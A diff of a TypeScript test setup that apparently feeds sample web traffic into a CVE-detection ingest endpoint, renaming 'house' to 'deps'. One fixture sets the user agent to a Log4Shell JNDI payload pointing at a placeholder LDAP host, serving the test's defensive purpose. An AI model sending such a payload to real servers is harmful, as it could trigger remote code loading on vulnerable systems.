@@ -22,17 +22,17 @@ async function* one(text: string): AsyncGenerator<Uint8Array> {
 
 beforeAll(async () => {
   ;[inside, browser] = await Promise.all([openInside(), openBrowser()])
-  const { house } = inside
+  const { deps } = inside
   const now = Date.now()
   for (const source of cveSources)
     await importCveSource(
-      house.analytics,
+      deps.analytics,
       { ...source, minRows: 1 },
       [one(samples[source.name]?.content ?? '')],
       { now },
     )
-  const workspace = await createWorkspace(house.db, { name: 'Own', publish: true, now })
-  const { secret } = await createKey(house.db, { workspace: workspace.id, role: 'operator', now })
+  const workspace = await createWorkspace(deps.db, { name: 'Own', publish: true, now })
+  const { secret } = await createKey(deps.db, { workspace: workspace.id, role: 'operator', now })
   const jndi = { uri: '/', userAgent: '${jndi:ldap://203.0.113.5/a}' }
   const body = new Uint8Array(captureOf([webVisit('198.18.7.1', jndi, now - 60_000)]))
   const taken = await fetch(new URL('/api/ingest/captures', inside.url), {
